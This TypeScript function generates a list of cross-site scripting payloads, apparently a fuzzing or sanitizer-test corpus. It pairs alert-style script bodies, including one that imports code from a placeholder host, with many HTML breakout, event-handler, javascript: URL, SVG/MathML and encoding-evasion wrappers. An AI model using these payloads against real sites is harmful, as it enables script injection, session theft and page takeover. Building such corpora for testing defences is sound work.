/** What has been tried on others: ways into markup, each in several dresses. */
export function hostile(): string[] {
  const bodies = [
    'alert(1)',
    'alert`1`',
    'top[`al`+`ert`](1)',
    'import(`//x`)',
    '$&$`$1',
    '{{constructor}}',
    '\\u0061lert(1)',
    '%3Cscript%3E',
  ];
  const dresses = [
    (body: string) => `<script>${body}</script>`,
    (body: string) => `"><script>${body}</script>`,
    (body: string) => `'><img src=x onerror=${body}>`,
    (body: string) => `" onload="${body}`,
    (body: string) => `' onfocus='${body}' autofocus='`,
    (body: string) => `</title><svg/onload=${body}>`,
    (body: string) => `</head><body onload=${body}>`,
    (body: string) => `<!--><img src=x onerror=${body}>-->`,
    (body: string) => `"/><meta http-equiv=refresh content="0;url=javascript:${body}`,
    (body: string) => `<a href="javascript:${body}">x</a>`,
    (body: string) => `\u202e<script>${body}</script>`,
    (body: string) => `\u0000"><script>${body}</script>`.replace('\u0000', ''),
    (body: string) => `＜script＞${body}＜/script＞`,
    (body: string) => `&quot;&gt;&lt;script&gt;${body}`,
    (body: string) => `&#34;&#62;<script>${body}`,
    (body: string) => `<style>@import'${body}'</style>`,
    (body: string) => `<svg><animate onbegin=${body}>`,
    (body: string) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${body}>`,
    (body: string) => `"\t\nonmouseover=${body} x="`,
    (body: string) => `]]><script>${body}</script>`,
    (body: string) => `<iframe srcdoc="<script>${body}</script>">`,
    (body: string) => `\`-alert-\`${body}`,
    (body: string) => `<base href="//x">${body}`,
    (body: string) => `<link rel=import href=data:,${body}>`,
    (body: string) => `<object data=javascript:${body}>`,
    (body: string) => `= onerror=${body} =`,
  ];
  return dresses.flatMap((dress) => bodies.flatMap((body) => [dress(body), dress(body).toUpperCase()]));
}
